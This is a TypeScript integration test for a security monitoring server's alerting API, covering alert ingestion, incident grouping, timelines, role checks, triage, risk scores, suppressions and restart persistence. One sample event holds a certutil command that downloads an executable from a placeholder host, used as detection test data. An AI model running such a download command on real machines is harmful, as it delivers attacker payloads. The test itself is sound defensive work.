/**
 * The alerting API on the real server: events ingested over HTTP, Detections fed straight into
 * the server's AlertService (as the live detection path does), then alerts, incidents, timeline,
 * risk and suppressions read and changed over HTTP with principals of each role; state survives
 * a restart.
 */
import { test } from 'node:test';
import assert from 'node:assert/strict';
import { mkdtempSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { Writable } from 'node:stream';
import { parseConfig } from '../../../config/load.js';
import type { Detection } from '../../../detect/detection.js';
import { createLogger } from '../../../runtime/logger.js';
import { VigilServer } from '../../../runtime/vigil-server.js';
import type { Authenticator, Principal } from '../../principal.js';
import { TEST_TOKEN } from '../../../testing/server.js';

/** Fixed tokens for an analyst and a read-only user, tried after the admin token. */
const PEOPLE: Record<string, Principal> = {
  'Bearer analyst-token-0123456789': { user: 'ann', role: 'analyst', via: 'api_token' },
  'Bearer viewer-token-0123456789': { user: 'vic', role: 'read_only', via: 'api_token' },
};
const fixedPrincipals: Authenticator = { authenticate: async (req) => (req.authorization ? PEOPLE[req.authorization] : undefined) };

async function start(dataDir: string): Promise<{ server: VigilServer; call: (as: 'admin' | 'analyst' | 'viewer', path: string, init?: { method?: string; body?: unknown }) => Promise<{ status: number; json: any }> }> {
  const config = parseConfig('alerting:\n  grouping:\n    keys: [user, host]\n    window_ms: 4h\n', 'test.yaml', { data_dir: dataDir, http_address: '127.0.0.1:0' });
  const sink = new Writable({ write: (_c, _e, cb) => cb() });
  const server = new VigilServer({ config, logger: createLogger('warn', sink), adminToken: TEST_TOKEN, version: 'test', authenticators: [fixedPrincipals] });
  await server.start();
  const tokens = { admin: `Bearer ${TEST_TOKEN}`, analyst: 'Bearer analyst-token-0123456789', viewer: 'Bearer viewer-token-0123456789' };
  const call = async (as: keyof typeof tokens, path: string, init: { method?: string; body?: unknown } = {}) => {
    const res = await fetch(`${server.url}${path}`, {
      method: init.method ?? 'GET',
      headers: { authorization: tokens[as], ...(init.body !== undefined ? { 'content-type': 'application/json' } : {}) },
      ...(init.body !== undefined ? { body: typeof init.body === 'string' ? init.body : JSON.stringify(init.body) } : {}),
    });
    const text = await res.text();
    return { status: res.status, json: text ? JSON.parse(text) : undefined };
  };
  return { server, call };
}

const T = Date.parse('2026-11-20T12:00:00Z');

test('alerts and incidents over the HTTP API: list, filter, detail with timeline, triage, comments, roles, suppressions, restart', async () => {
  const dataDir = mkdtempSync(join(tmpdir(), 'vigil-respond-'));
  let { server, call } = await start(dataDir);
  try {
    const events = [
      { '@timestamp': '2026-11-20T12:00:00Z', user: { name: 'alice' }, source: { ip: '203.0.113.9' }, event: { outcome: 'failure' }, message: 'failed login' },
      { '@timestamp': '2026-11-20T12:05:00Z', user: { name: 'alice' }, host: { name: 'web-1' }, process: { command_line: 'certutil -urlcache -f http://x/a.exe' } },
      { '@timestamp': '2026-11-20T12:07:00Z', user: { name: 'alice' }, host: { name: 'web-1' }, message: 'unrelated by rule, related by entity' },
      { '@timestamp': '2026-11-20T12:09:00Z', user: { name: 'zed' }, host: { name: 'other' }, message: 'not related' },
    ];
    const ingest = await call('admin', '/api/v1/ingest?source=test', { method: 'POST', body: events.map((e) => JSON.stringify(e)).join('\n') });
    assert.equal(ingest.json.accepted, 4);
    const found = await call('admin', `/api/v1/search?q=${encodeURIComponent('user.name:alice | sort @timestamp')}&from=2026-11-20T00:00:00Z&limit=10`);
    const ids = (found.json.rows as Array<{ id: string }>).map((r) => r.id);
    assert.equal(ids.length, 3);

    const detections: Detection[] = [
      { kind: 'analytic', rule: { id: 'analytic:brute_force', title: 'Brute force', level: 'medium', tags: ['attack.t1110'] }, ts: T, eventIds: [ids[0]], eventCount: 1, entities: { user: ['alice'], ip: ['203.0.113.9'] }, explanation: ['5 failures in 1m'] },
      { kind: 'sigma', rule: { id: 'sigma-certutil', title: 'Certutil download', level: 'high', tags: ['attack.t1105'] }, ts: T + 5 * 60_000, eventIds: [ids[1]], eventCount: 1, entities: { user: ['alice'], host: ['web-1'] }, explanation: ["CommandLine contains '-urlcache'"] },
    ];
    const r = await server.alerts!.ingest(detections);
    assert.equal(r.created.length, 2);
    assert.equal(r.incidents.length, 1, 'both name user alice: one incident');

    const list = await call('viewer', '/api/v1/alerts?level=high,critical');
    assert.equal(list.status, 200);
    assert.equal(list.json.total, 1);
    assert.equal(list.json.alerts[0].rule.title, 'Certutil download');
    assert.equal((await call('viewer', '/api/v1/alerts?entity=ip:203.0.113.9&status=new')).json.total, 1);
    assert.equal((await call('viewer', '/api/v1/alerts?from=2026-11-21T00:00:00Z')).json.total, 0);
    assert.equal((await call('viewer', '/api/v1/alerts?status=bogus')).status, 400);
    assert.equal((await call('viewer', '/api/v1/alerts/nope')).status, 404);

    const incidents = await call('viewer', '/api/v1/incidents?status=open');
    assert.equal(incidents.json.total, 1);
    const incidentId = incidents.json.incidents[0].id as string;
    assert.equal(incidents.json.incidents[0].level, 'high');
    const detail = await call('viewer', `/api/v1/incidents/${incidentId}`);
    assert.equal(detail.json.alerts.length, 2);
    assert.deepEqual(detail.json.entities.user, ['alice']);
    const timeline = detail.json.timeline.events as Array<{ id: string; reason: string; ts: number; source: string; fields: Record<string, unknown> }>;
    assert.deepEqual(timeline.map((e) => [e.id, e.reason]), [[ids[0], 'alert'], [ids[1], 'alert'], [ids[2], 'entity']], 'matched events and the entity event, by time; not the unrelated one');
    assert.deepEqual([timeline[1].ts, timeline[1].source, timeline[1].fields['process.command_line']], [T + 5 * 60_000, 'test', 'certutil -urlcache -f http://x/a.exe']);
    assert.equal(timeline[2].fields.message, 'unrelated by rule, related by entity');
    assert.equal(detail.json.timeline.truncated, false);

    const denied = await call('viewer', `/api/v1/incidents/${incidentId}`, { method: 'PATCH', body: { status: 'in_progress' } });
    assert.equal(denied.status, 403);
    assert.match(denied.json.error.message, /needs role analyst; vic has read_only/);
    const patched = await call('analyst', `/api/v1/incidents/${incidentId}`, { method: 'PATCH', body: { status: 'in_progress', assignee: 'ann' } });
    assert.deepEqual([patched.status, patched.json.incident.status, patched.json.incident.assignee], [200, 'in_progress', 'ann']);
    const noResolution = await call('analyst', `/api/v1/incidents/${incidentId}`, { method: 'PATCH', body: { status: 'closed' } });
    assert.deepEqual([noResolution.status, noResolution.json.error.code], [400, 'resolution_required']);
    const comment = await call('analyst', `/api/v1/incidents/${incidentId}/comments`, { method: 'POST', body: { text: 'Reset alice’s password.' } });
    assert.deepEqual([comment.status, comment.json.comment.author], [201, 'ann']);
    assert.equal((await call('viewer', `/api/v1/incidents/${incidentId}/comments`, { method: 'POST', body: { text: 'x' } })).status, 403);

    const alertIds = detail.json.alerts.map((a: { id: string }) => a.id);
    const bulk = await call('analyst', '/api/v1/alerts/bulk', { method: 'POST', body: { ids: [...alertIds, 'missing'], status: 'acknowledged', assignee: 'ann' } });
    assert.deepEqual([bulk.json.updated, bulk.json.not_found], [2, ['missing']]);
    assert.equal((await call('viewer', '/api/v1/alerts/bulk', { method: 'POST', body: { ids: alertIds, status: 'closed' } })).status, 403);

    const risk = await call('viewer', '/api/v1/entities/risk?kind=user');
    assert.deepEqual(risk.json.entities.map((e: { value: string; score: number }) => [e.value, e.score]), [['alice', 70]], 'high 50 + medium 20');
    const withRisk = (await call('viewer', `/api/v1/incidents/${incidentId}`)).json.risk as Array<{ kind: string; value: string; score: number }>;
    assert.deepEqual(withRisk.map((r) => [r.kind, r.value, r.score]), [['user', 'alice', 70], ['host', 'web-1', 50], ['ip', '203.0.113.9', 20]]);

    const filter = { name: 'lab', condition: { host: 'web-*', 'rule.id': 'sigma-*' } };
    const preview = await call('viewer', '/api/v1/suppressions/preview', { method: 'POST', body: { ...filter, from: '2026-11-20T00:00:00Z' } });
    assert.deepEqual([preview.status, preview.json.preview.alerts.matched], [200, 1]);
    assert.equal((await call('viewer', '/api/v1/suppressions', { method: 'POST', body: filter })).status, 403);
    const bad = await call('analyst', '/api/v1/suppressions', { method: 'POST', body: { name: 'x', sigma: 'title: [' } });
    assert.deepEqual([bad.status, bad.json.error.code], [400, 'bad_suppression']);
    const saved = await call('analyst', '/api/v1/suppressions', { method: 'POST', body: filter });
    assert.equal(saved.status, 201);
    const suppressed = await server.alerts!.ingest([{ ...detections[1], ts: T + 6 * 60_000, entities: { user: ['bob'], host: ['web-9'] } }]);
    assert.equal(suppressed.suppressed.length, 1);
    assert.equal((await call('viewer', '/api/v1/suppressions')).json.suppressions[0].suppressed, 1);
    const hidden = await call('viewer', `/api/v1/suppressions/${saved.json.suppression.id}/suppressed`);
    assert.deepEqual(hidden.json.suppressed.map((s: { rule_id: string; entities: { host: string[] } }) => [s.rule_id, s.entities.host]), [['sigma-certutil', ['web-9']]]);
    assert.deepEqual((await call('viewer', '/api/v1/notifications/deliveries')).json, { deliveries: [] });

    await server.stop(Date.now() + 10_000);
    ({ server, call } = await start(dataDir));
    const after = await call('viewer', `/api/v1/incidents/${incidentId}`);
    assert.deepEqual([after.json.incident.status, after.json.comments.length, after.json.alerts[0].status], ['in_progress', 1, 'acknowledged'], 'state survives a restart');
    assert.equal((await call('analyst', `/api/v1/suppressions/${saved.json.suppression.id}`, { method: 'DELETE' })).status, 204);
    assert.equal((await call('analyst', `/api/v1/suppressions/${saved.json.suppression.id}`, { method: 'DELETE' })).status, 404);
    const closed = await call('analyst', `/api/v1/incidents/${incidentId}`, { method: 'PATCH', body: { status: 'closed', resolution: 'true_positive' } });
    assert.deepEqual([closed.json.incident.status, closed.json.incident.resolution], ['closed', 'true_positive']);
  } finally {
    await server.stop(Date.now() + 10_000);
    rmSync(dataDir, { recursive: true, force: true });
  }
});
